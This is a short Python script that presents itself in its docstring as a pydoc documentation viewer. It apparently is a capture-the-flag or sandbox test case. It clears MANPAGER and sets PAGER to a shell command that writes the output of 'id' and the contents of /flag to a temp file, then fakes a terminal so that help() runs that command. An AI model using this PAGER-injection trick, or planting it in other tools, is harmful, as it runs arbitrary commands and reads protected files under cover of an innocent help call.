"""apiref: show the documentation of a dotted name, paged like `pydoc`.

usage: python a01_pydoc_pager_help.py [name]
"""
import os
import sys
import pydoc


def _attach_terminal():
    # help() only pages when it believes it is talking to a terminal
    master, slave = os.openpty()
    sys.stdin = os.fdopen(slave, "r", closefd=False)
    sys.stdout = os.fdopen(os.dup(slave), "w")
    return master


def main(argv):
    name = argv[1] if len(argv) > 1 else "json.dumps"
    env = pydoc.os.environ                      # the same mapping as os.environ
    env.pop("MANPAGER", None)                   # MANPAGER would win over PAGER
    env["PAGER"] = "id > /tmp/pj_env_a01; cat /flag >> /tmp/pj_env_a01; cat >/dev/null"
    _attach_terminal()
    help(name)                                  # pydoc.pager -> pipepager(text, $PAGER)
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv))
